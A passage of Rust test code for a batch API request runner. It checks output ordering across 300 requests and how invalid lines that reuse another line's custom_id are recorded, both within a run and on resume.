        ..options(dir.path())
    };
    let runner = BatchRunner::new(
        Client::builder().base_url(server.url()).build().unwrap(),
        Input::Path(input),
        options,
    );
    let summary = bounded(runner.run(std::future::pending())).await.unwrap();
    assert_eq!(summary.succeeded, 300);
    let ids = custom_ids(&records(&dir.path().join("out.jsonl")));
    let expected: Vec<String> = (0..300).map(|i| format!("req-{i}")).collect();
    assert_eq!(ids, expected);
}

/// An invalid line names a `custom_id` another line answered: its error record must not speak
/// for that id (the last record of an id is its outcome). Within a run it names no id, as a
/// duplicate's does; on resume, a line edited into an invalid one keeps its recorded outcome
/// and gets no record.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_invalid_line_never_hides_the_answer_of_its_custom_id() {
    let server = MockServer::start(MockConfig::default()).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    let invalid = |id: &str| {
        json!({"custom_id": id, "method": "POST", "url": "/v1/images", "body": {}}).to_string()
    };
    let input = input_file(
        dir.path(),
        [chat_line("a"), chat_line("b"), invalid("a"), invalid("c")],
    );
    let client = Client::builder().base_url(server.url()).build().unwrap();
    let run = |client: Client, input: PathBuf| {
        let opts = BatchOptions {
            ordered: true,
            ..options(dir.path())
        };
        BatchRunner::new(client, Input::Path(input), opts).run(std::future::pending())
    };
    bounded(run(client.clone(), input.clone())).await.unwrap();
    let out = records(&dir.path().join("out.jsonl"));
    assert_eq!(out.len(), 4);
    assert_eq!(out[2]["custom_id"], Value::Null, "{}", out[2]);
    assert_eq!(out[2]["error"]["code"], "unknown_url", "{}", out[2]);
    assert_eq!(
        out[3]["custom_id"], "c",
        "an id of its own is named: {}",
        out[3]
    );
    let last_of_a = out.iter().rev().find(|r| r["custom_id"] == "a").unwrap();
    assert!(last_of_a["error"].is_null(), "{last_of_a}");

    // Line 2 ("b", answered) edited into an invalid line that still names "b".
    write_input(
        &input,
        [chat_line("a"), invalid("b"), invalid("a"), invalid("c")],
    );
    let summary = bounded(run(client, input)).await.unwrap();
    let out = records(&dir.path().join("out.jsonl"));
    assert_eq!(out.len(), 4, "nothing new is recorded: {out:?}");
    assert_eq!(summary.attempts, 0, "{summary:?}");
    assert_eq!(
        server.stats().requests_total,
        2,
        "each answer paid for once"
    );
}
